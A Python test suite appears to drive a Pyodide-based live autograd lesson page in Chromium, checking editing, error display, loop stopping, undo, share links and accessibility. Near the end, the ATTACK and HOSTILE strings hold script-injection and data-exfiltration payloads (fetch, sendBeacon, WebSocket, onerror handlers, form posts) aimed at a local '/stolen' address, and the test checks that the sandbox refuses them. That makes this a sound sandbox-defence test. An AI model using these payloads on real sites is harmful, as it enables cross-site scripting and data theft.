"""The live page in Chromium: what is typed is seen, what is wrong is marked, and no link can harm.

It needs Pyodide, the package of npm, and Node.
"""

import json
import shutil
from collections.abc import Callable, Iterator
from hashlib import sha256
from itertools import chain
from pathlib import Path
from socket import create_server, socket
from types import SimpleNamespace
from typing import Any
from zipfile import ZipFile

import pytest
from servers import Served, served
from test_page_access import DESK, PHONE

from chainrule.live import EXAMPLES, write

pytestmark = pytest.mark.browser

ROOT = Path(__file__).parent.parent
CORE = ("pyodide.mjs", "pyodide.asm.mjs", "pyodide.asm.wasm", "python_stdlib.zip")
WHEEL = "chainrule-0-py3-none-any.whl"
PATIENCE = 60_000  # milliseconds for Python to start on a machine that is busy
NEURON = EXAMPLES[0].text


@pytest.fixture(scope="module")
def folder(npm: Callable[[str], Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site with the live page as it is now, and beside it Pyodide with what is here."""
    site = tmp_path_factory.mktemp("site")
    pyodide = site / "pyodide"
    pyodide.mkdir()
    core = npm("pyodide")
    for name in CORE:
        shutil.copy(core / name, pyodide)
    with ZipFile(pyodide / WHEEL, "w") as wheel:
        for package in ("autograd", "chainrule", "nn", "viz"):
            for path in (ROOT / package).rglob("*.*"):
                if "__pycache__" not in path.parts:
                    wheel.write(path, path.relative_to(ROOT))
    lock = json.loads((core / "pyodide-lock.json").read_text("utf-8"))
    named = {"file_name": WHEEL, "sha256": sha256((pyodide / WHEEL).read_bytes()).hexdigest()}
    lock["packages"] = {"chainrule": named}
    (pyodide / "pyodide-lock.json").write_text(json.dumps(lock), encoding="utf-8")
    write(site / "live", memory=True)
    write(site / "plain")
    return site


@pytest.fixture(scope="module")
def server(folder: Path) -> Iterator[Served]:
    """A plain server of files with the site on it."""
    with served(folder) as server:
        yield server


@pytest.fixture(scope="module")
def address(server: Served) -> str:
    """Where the live page stands."""
    return f"{server.address}live/"


class Live:
    """The live page in a browser, and what a test asks of it."""

    def __init__(self, page: Any, address: str) -> None:
        self.page = page
        self.requests: list[str] = []
        self.complaints: list[str] = []
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.goto(address)

    def open(self, text: str, tab: str = "graph") -> None:
        """As by a link."""
        self.page.evaluate(
            "(lesson) => openLesson(lesson)", {"text": text, "tab": tab, "title": ""}
        )

    def shows(self, words: str) -> None:
        """Wait until this is said of what is shown."""
        self.page.locator("#shown", has_text=words).wait_for(timeout=PATIENCE)

    def tells(self, words: str) -> None:
        """Wait until this is said of what is wrong."""
        self.page.locator("#trouble", has_text=words).wait_for(timeout=PATIENCE)

    def type(self, after: str, text: str) -> None:
        """Type where some part of the code ends."""
        self.page.evaluate(
            """(after) => {
              const at = code.value.indexOf(after) + after.length;
              code.focus();
              code.setSelectionRange(at, at);
            }""",
            after,
        )
        self.page.keyboard.type(text)

    @property
    def code(self) -> str:
        return str(self.page.input_value("#code"))

    @property
    def sight(self) -> Any:
        """The frame of pictures and tables."""
        return self.page.frame_locator("#frames iframe >> nth=0")

    @property
    def steps(self) -> Any:
        """The frame of the page of steps."""
        return self.page.frame_locator("#frames iframe:not(.coming) >> nth=1")

    def sees(self, words: str) -> None:
        """Wait until the picture or the table has this in it."""
        self.sight.locator("main", has_text=words).wait_for(timeout=PATIENCE)

    @property
    def screens(self) -> list[Any]:
        """The page and the frames that are seen, for axe-core."""
        frames = [f for f in self.page.frames if f.evaluate("!!document.querySelector('main')")]
        return [SimpleNamespace(page=frame, run=frame.evaluate) for frame in frames]


@pytest.fixture(scope="module")
def context(chromium: Any) -> Iterator[Any]:
    context = chromium.new_context(viewport={"width": DESK[0], "height": DESK[1]})
    yield context
    context.close()


@pytest.fixture(scope="module")
def opened(context: Any, address: str) -> Live:
    """The page, opened once: to start Python takes seconds."""
    return Live(context.new_page(), address)


@pytest.fixture
def live(opened: Live) -> Iterator[Live]:
    """The page with the first example on it; it must not have complained afterwards."""
    opened.open(NEURON)
    opened.shows("y, a graph of 6 nodes")
    yield opened
    assert opened.complaints == []


def test_the_first_picture_is_there_before_python_and_stays(live: Live) -> None:
    live.sees("y = -0.6107")
    assert live.page.inner_text("#printed").startswith("0.43895")


def test_the_picture_changes_as_one_types(live: Live) -> None:
    live.type("Value(0.7", "5")
    live.sees("x = 0.75")
    live.type("tanh(a)", " * b")
    live.shows("y, a graph of 7 nodes")


def test_a_mistake_is_marked_in_its_line_and_the_picture_stays(live: Live) -> None:
    live.type("y = tanh", "x")
    live.tells("NameError: name 'tanhx' is not defined")
    assert live.page.locator(".line.wrong").all_inner_texts() == ["y = tanhx(a)"]
    assert live.page.inner_text(".here") == "tanhx"
    assert "past" in live.page.get_attribute("#frames", "class")
    live.sees("y = -0.6107")
    live.page.click("#place")  # to the line
    assert live.page.evaluate("code.selectionStart") == NEURON.index("tanh(a)")
    live.type("y = tanhx", "")
    live.page.keyboard.press("Backspace")
    live.page.locator("#frames:not(.past)").wait_for()
    assert live.page.is_hidden("#trouble")


def test_a_loop_without_end_is_stopped_and_work_goes_on(live: Live) -> None:
    live.open("while True:\n    pass")
    live.tells("is there a loop that never ends?")
    live.open(EXAMPLES[1].text)
    live.shows("y, a graph of 4 nodes")


def test_somebody_need_not_wait(live: Live) -> None:
    live.open("while True:\n    pass")
    live.page.click("#stop")
    live.tells("Stopped.")
    live.page.evaluate("work.turn")
    assert live.page.inner_text("#shown") == ""  # no longer how Python starts


def test_what_was_wrong_with_an_older_text_is_not_told_of_a_newer_one(live: Live) -> None:
    live.open("while True:\n    pass")
    live.page.locator("#stop").wait_for()
    live.page.fill("#code", EXAMPLES[1].text)
    live.shows("y, a graph of 4 nodes")
    assert live.page.is_hidden("#trouble")


SLOW_TO_CHECK = """\
import chainrule.live.showing as showing
from autograd import Value
def slow(run, room):
    while True: pass
showing.KINDS["check"] = slow
x = Value(3.0, "x")
y = x * x
"""


def test_a_view_that_takes_long_can_be_stopped_and_the_others_are_still_there(live: Live) -> None:
    live.open(SLOW_TO_CHECK)
    live.shows("y, a graph of 2 nodes")
    live.page.click("#tab-check")
    live.page.click("#stop")
    live.sees("Stopped. Python has started anew, and other views can be opened.")
    live.shows("y, a graph of 2 nodes")
    live.page.click("#tab-graph")
    live.sees("x = 3")
    live.page.click("#tab-derivation")
    live.sees("its derivatives")
    assert live.page.is_hidden("#stop")


def test_what_a_text_did_to_python_is_gone_with_it(live: Live) -> None:
    live.open(
        "from chainrule.live import Session\n"
        "Session._run_text = lambda self, text, *more: dict(\n"
        "    printed='I have seen ' + text, trouble=None, shown='')\n"
    )
    live.sees("the code makes no Value")
    live.type("shown='')", "  # more")
    live.page.locator("#printed", has_text="I have seen from").wait_for(timeout=PATIENCE)
    live.page.select_option("#examples", label="A sum over two paths")
    live.shows("y, a graph of 4 nodes")
    assert "seen" not in live.page.inner_text("#printed")


def test_a_text_that_is_opened_need_not_wait_for_the_one_before(live: Live) -> None:
    live.open("while True:\n    pass")
    live.page.locator("#stop").wait_for(timeout=PATIENCE)  # it runs
    live.open(EXAMPLES[1].text)
    live.shows("y, a graph of 4 nodes")
    assert live.page.is_hidden("#trouble")


def test_keys_indent_and_leave(live: Live) -> None:
    live.open("")
    live.type("", "for k in range(2):\nprint(k)")
    assert live.code == "for k in range(2):\n    print(k)"
    live.page.locator("#printed", has_text="0\n1").wait_for(timeout=PATIENCE)
    live.page.keyboard.press("Control+z")
    assert live.code == "for k in range(2):\n    print(k"
    live.page.keyboard.press("Escape")
    live.page.keyboard.press("Tab")
    assert live.page.evaluate("document.activeElement.id") != "code"


def test_a_slider_moves_the_number_in_the_code_and_the_place_is_kept(live: Live) -> None:
    live.page.click("#tab-steps")
    live.steps.locator("#last").click()
    live.page.locator(".line.step", has_text="w = Value(-1.3").wait_for()  # the line of the step
    live.steps.get_by_label("w, number", exact=True).fill("-0.5")
    live.steps.locator("#live", has_text="what moves here moves in Python").wait_for()
    assert 'w = Value(-0.5, "w")' in live.code
    live.type("tanh(a)", " * b")  # another graph, another page
    live.steps.locator("#count", has_text="step 11 of 11").or_(
        live.steps.locator("#count", has_text="step 9 of 11")
    ).wait_for()


def test_pages_of_steps_that_came_too_late_leave_nothing_over_the_other_tabs(live: Live) -> None:
    live.open("from autograd import Value\nx = Value(2.0)\ny = x", "steps")
    live.steps.locator("#count").wait_for(timeout=PATIENCE)
    live.type("y = x", "")
    live.page.keyboard.type("*x*x+x*x+x", delay=60)
    live.page.click("#tab-graph")
    live.sees("y = 14")
    live.page.locator(".coming").wait_for(state="detached")
    assert live.page.locator("#frames iframe").count() == 2
    assert live.page.locator("#frames iframe:visible").count() == 1


def test_undo_knows_what_a_slider_wrote(live: Live) -> None:
    live.type("Value(0.7", "55")
    live.page.evaluate("(moveNumbers([[0, -0.125], [1, 0.5]]), work.turn)")
    assert "-0.125" in live.code
    moved = live.code
    live.type("tanh(a)", " + b")
    for _ in range(4):  # b, blank, +, blank
        live.page.keyboard.press("Control+z")
    assert live.code == moved
    live.page.keyboard.press("Control+z")
    assert live.code == NEURON.replace("Value(0.7", "Value(0.755")
    live.page.keyboard.press("Control+z")
    assert live.code == NEURON
    live.page.keyboard.press("Control+y")
    live.page.keyboard.press("Control+Shift+Z")
    assert live.code == moved


@pytest.mark.parametrize("way", ["undo", "back"])
def test_what_was_typed_comes_back_after_an_example(live: Live, way: str) -> None:
    live.page.fill("#title", "Mine")
    live.type("tanh(a)", " * b")
    mine = live.code
    live.page.select_option("#examples", label=EXAMPLES[1].title)
    live.shows("y, a graph of 4 nodes")
    if way == "undo":
        live.page.keyboard.press("Control+z")
    else:
        live.page.go_back()
    live.shows("y, a graph of 7 nodes")
    assert (live.code, live.page.input_value("#title")) == (mine, "Mine")


def test_a_link_opens_what_was_on_the_page(live: Live, context: Any, server: Served) -> None:
    live.type("Value(0.7", "5")
    live.page.fill("#title", "Lesson 2")
    live.page.click("#tab-derivation")
    live.page.click("#copy")
    live.page.locator("#said", has_text="link").wait_for()
    other = Live(context.new_page(), live.page.url)
    other.shows("y, a graph of 6 nodes")
    other.sees("its derivatives")
    assert other.code == live.code
    assert other.page.title() == other.page.input_value("#title") == "Lesson 2"
    assert other.page.get_attribute("#tab-derivation", "aria-selected") == "true"
    assert not any("code=" in path for path in server.asked)
    other.page.close()


def test_a_damaged_link_is_told_and_an_example_opened(live: Live, context: Any) -> None:
    other = Live(context.new_page(), f"{live.page.url.partition('#')[0]}#code=AAAA")
    other.page.locator("#said", has_text="The link is damaged").wait_for()
    other.shows("y, a graph of 6 nodes")
    assert "The link is damaged" in other.page.inner_text("#said")
    other.page.close()


ATTACK = """\
import js
def tried(what):
    try:
        what()
    except BaseException as error:
        print("refused")
asked = js.XMLHttpRequest.new()
asked.open("GET", "{there}", False)
js.WebSocket.new("{there}".replace("http", "ws"))
tried(asked.send)
tried(lambda: js.indexedDB.open("notebooks"))
tried(lambda: js.eval("import('{there}?import')"))
tried(lambda: js.document)
import viz.drawing.svg, chainrule.live.showing as showing
change = "parent.code.value = 1"
html = f"<img src='{there}?img' onerror='{{change}}'><svg onload='{{change}}'></svg>"
for rel in "preconnect", "dns-prefetch", "prefetch":
    html += f"<link rel={{rel}} href='{there}'>"
html += "<meta http-equiv=refresh content='0; url={there}'><iframe src='{there}'></iframe>"
showing.KINDS["graph"] = lambda run, room: dict(html=html + {page!r} + "<p>seen so</p>")
made = showing.graph_of
def graph_of(run):
    return made(run) | dict(heading=[], title={page!r}, page={page!r})
showing.graph_of = graph_of
steps = showing.KINDS["steps"]
showing.KINDS["steps"] = lambda run, room: steps(run, room) | dict(page={page!r}, title="x")
from autograd import Value
y = Value(1.0)
"""
HOSTILE = """<!DOCTYPE html><p id="ran"></p><script>
const there = "{there}";
const add = (name, how) => new Promise((settle) => {{
  const element = Object.assign(document.createElement(name), how);
  element.onload = element.onerror = settle;
  document.head.append(element);
}});
const sent = (way) => new Promise((settle) => {{
  const request = new XMLHttpRequest();
  request.onloadend = settle;
  request.open(way, there);
  request.send("x");
}});
const tries = [
  () => fetch(there), () => fetch(there, {{ method: "POST", mode: "no-cors", body: "x" }}),
  () => sent("GET"), () => sent("POST"),
  () => navigator.sendBeacon(there, "x"),
  () => new Promise((settle) => {{ new WebSocket(there.replace("http", "ws")).onerror = settle; }}),
  () => new Promise((settle) => {{ new EventSource(there).onerror = settle; }}),
  () => import(there + "?import"),
  () => add("img", {{ src: there }}), () => add("script", {{ src: there }}),
  () => add("iframe", {{ src: there }}), () => add("object", {{ data: there }}),
  ...["stylesheet", "prefetch", "preload", "dns-prefetch", "modulepreload"]
    .map((rel) => () => add("link", {{ rel, href: there, as: "script" }})),
  () => new Promise((settle) => {{
    const frame = document.createElement("iframe");
    frame.srcdoc = `<script>fetch("${{there}}")<\\/script>`;
    frame.onload = settle;
    document.head.append(frame);
  }}),
  () => {{
    const form = document.createElement("form");
    Object.assign(form, {{ action: there, method: "post" }});
    document.body.append(form);
    form.submit();
  }},
  () => {{ open(there); }},
  () => {{ top.code.value = 1; }},
];
(async () => {{
  const waited = () => new Promise((settle) => setTimeout(settle, 500));
  for (const one of tries) await Promise.race([(async () => one())().catch(() => {{}}), waited()]);
  const ran = document.getElementById("ran");
  ran.textContent = "ran to its end";
  ran.onclick = () => {{ location = there; }};
}})();
</script>"""


@pytest.fixture
def elsewhere() -> Iterator[socket]:
    """Where nobody is to call."""
    with create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        yield listening


def test_a_strangers_code_reaches_neither_the_network_nor_the_page(
    context: Any, address: str, elsewhere: socket
) -> None:
    there = f"http://127.0.0.1:{elsewhere.getsockname()[1]}/stolen"
    stranger = Live(context.new_page(), address)
    stranger.shows("y, a graph of 6 nodes")
    stranger.open(ATTACK.format(there=there, page=HOSTILE.format(there=there)))
    stranger.sees("seen so")
    assert stranger.page.inner_text("#printed").splitlines() == ["refused"] * 4
    stranger.page.click("#tab-steps")
    stranger.steps.locator("#title, #ran", has_text="ran to its end").wait_for(timeout=PATIENCE)
    assert "<script>" in stranger.steps.locator("#title").inner_text()  # a text, and no script
    assert stranger.code.startswith("import js")
    assert any("stolen" in request for request in stranger.requests)  # it was tried, and refused:
    with pytest.raises(BlockingIOError):
        elsewhere.accept()
    stranger.page.close()


def test_where_no_memory_is_kept_python_starts_all_the_same(context: Any, address: str) -> None:
    plain = Live(context.new_page(), address.replace("/live/", "/plain/"))
    plain.shows("y, a graph of 6 nodes")
    plain.page.locator("#printed", has_text="0.43895").wait_for()
    assert not any("memory" in request for request in plain.requests)
    assert plain.page.evaluate("supplies.then(({ memory }) => memory.byteLength > 1e6)")  # its own
    plain.page.close()


def test_a_link_that_programs_may_cut_is_told(live: Live) -> None:
    many = "# " + "".join(sha256(bytes([k])).hexdigest() for k in range(250))
    live.open(many)
    live.page.click("#copy")
    live.page.locator("#said", has_text="may cut it at 8,000").wait_for()
    live.open(many * 10)
    live.page.click("#copy")
    live.page.locator("#said", has_text="No link holds").wait_for()


def test_nothing_is_asked_of_anybody_else(live: Live, address: str) -> None:
    site = address.removesuffix("live/")
    outside = [r for r in live.requests if not r.startswith((site, "blob:", "data:", "about:"))]
    assert outside == []


def test_from_a_file_the_page_says_how_it_is_opened(context: Any, folder: Path) -> None:
    page = context.new_page()
    page.goto((folder / "live" / "index.html").as_uri())
    assert "python -m http.server" in page.inner_text("#trouble")
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [DESK, PHONE], ids=["desk", "phone"])
def test_everybody_can_use_it_on_any_screen(
    live: Live, serious: Any, size: Any, scheme: str
) -> None:
    live.page.set_viewport_size({"width": size[0], "height": size[1]})
    if live.page.get_attribute("#dark", "aria-pressed") != str(scheme == "dark").lower():
        live.page.click("#dark")
    seen = {"derivation": "its derivatives", "check": "3 of 3", "graph": "y = -0.6107"}
    for tab, words in seen.items():
        live.page.click(f"#tab-{tab}")
        live.sees(words)
        assert (tab, [*chain(*map(serious, live.screens))]) == (tab, [])
    live.type("y = tanh", "x")
    live.tells("NameError")
    assert [*chain(*map(serious, live.screens))] == []
    assert live.page.evaluate("document.documentElement.scrollWidth") == size[0]  # nothing is cut
    live.page.set_viewport_size({"width": DESK[0], "height": DESK[1]})
